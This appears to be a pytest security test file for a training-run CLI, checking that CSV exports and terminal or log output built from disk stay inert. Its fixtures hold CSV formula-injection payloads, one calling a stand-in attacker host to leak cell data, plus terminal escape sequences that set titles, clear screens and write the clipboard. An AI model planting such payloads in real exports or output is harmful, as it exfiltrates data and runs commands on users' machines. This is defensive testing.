"""Issue 16, item 5: output derived from disk is inert: CSV export holds no formula and one row per run, and no
terminal escape sequence from a sidecar, a pointer or a file name ever reaches the terminal or the log."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from tests.scripts.resumable import ResumableRunner, make_config
from tests.security.hostile import TINY, perdure_cli, perdure_cli_each, run_dir_of, text

pytestmark = pytest.mark.timeout(120)

TITLE, CLEAR, CLIPBOARD = "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b]52;c;ZWNobyBvd25lZA==\x07"
CONTROL_BYTES = (b"\x1b", b"\x07", b"\xc2\x9b", b"\r")  # ESC, BEL, C1 CSI (UTF-8), a bare CR


def hostile_run(root: Path, **fields) -> Path:
    """A copy of the victim under another id whose sidecar carries `fields`."""
    victim = run_dir_of(root)
    other = victim.with_name("hostile")
    shutil.copytree(victim, other, symlinks=True)
    sidecar = json.loads((other / "sidecar.json").read_text())
    (other / "sidecar.json").write_text(json.dumps({**sidecar, **fields}))
    return other


def assert_inert(output: bytes) -> None:
    for byte in CONTROL_BYTES:
        assert byte not in output, (byte, output[:2000])


def test_csv_export_has_no_formula_cell_and_one_row_per_run(file_root, tmp_path):
    hostile_run(
        file_root,
        run_id='=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
        lineage="+cmd|' /C calc'!A0",
        tags=["@SUM(1+1)*cmd|' /C calc'!A0", "\tleading tab"],
        hparams={"note": "-2+3+cmd|' /C calc'!A0", "split": "first\rsecond\nthird", "=formula-key": 1},
    )
    out = tmp_path / "runs.csv"
    result = perdure_cli("runs", "export", out, "--root", file_root)
    assert result.returncode == 0, text(result)
    with out.open(newline="") as stream:  # unquoted cells are numbers; every text cell is quoted
        rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))
    assert len(rows) == 1 + 2  # the header and one row per run: the CR and LF split nothing
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"click")' in cells  # kept, as text
    with out.open() as stream:  # a reader with universal newlines sees the same rows
        assert len(list(csv.reader(stream))) == 3


def test_runs_ls_and_show_never_print_terminal_escapes(file_root):
    hostile_run(
        file_root,
        run_id=f"hostile{TITLE}",
        lineage=f"lin{CLEAR}",
        tags=[CLIPBOARD, "\u009b31m"],
        hparams={"note": f"a{TITLE}b", "cr": "x\ry"},
        summary={f"train/loss{CLEAR}": {"latest": 1.0, "latest_step": 4, "min": 1.0, "min_step": 4}},
        attempts=[
            {
                "started": TITLE,
                "status": "failed",
                "exit_reason": CLEAR,
                "resumed_step": 0,
                "save_failures": [{"checkpoint": CLIPBOARD, "error": TITLE, "at": "x"}],
            }
        ],  # fmt: skip
    )
    commands = [("runs", *command, "--root", file_root) for command in (("ls",), ("show", "hostile"), ("scan",))]
    codes, output = perdure_cli_each(*commands, ("runs", "best", "train/loss", "--root", file_root))
    assert codes == [0, 0, 0, 0], output
    assert_inert(output)
    assert b"hostile\\x1b]0;owned\\x07" in output and b"\\x1b[2J" in output  # visible, escaped


def test_ckpt_ls_and_verify_never_print_terminal_escapes(file_root):
    checkpoints = run_dir_of(file_root) / "checkpoints"
    quarantined = checkpoints / "quarantine" / f"ckpt-{CLEAR}evil"
    quarantined.mkdir(parents=True)
    (quarantined / "REASON.txt").write_text(f"reason: {CLIPBOARD}{TITLE}\n")
    (checkpoints / f".tmp-{TITLE}").mkdir()
    (checkpoints / "best").write_text(TITLE + "A" * 300)
    codes, output = perdure_cli_each(
        ("ckpt", "ls", checkpoints), ("ckpt", "verify", checkpoints), ("ckpt", "verify", quarantined)
    )
    assert codes == [0, 1, 2]  # the last is no checkpoint: an error that names it, escaped
    assert_inert(output)
    assert b"A" * 65 not in output  # a pointer's content is shown as a short name at most


def test_log_lines_built_from_disk_never_carry_terminal_escapes(file_root, capsys):
    run = run_dir_of(file_root)
    (run / "checkpoints" / "latest").write_text(f"{TITLE}{CLEAR}" + "A" * 300)
    runner = ResumableRunner(make_config(file_root, **{**TINY, "steps": 6}))
    runner.train()
    assert runner.restore_source.info.name == "ckpt-s000000000004"
    console = capsys.readouterr().out.encode()
    assert_inert(console)
    assert b"\\x1b]0;owned\\x07" in console and b"A" * 65 not in console
    for log in (run / "logs").iterdir():
        assert_inert(log.read_bytes())
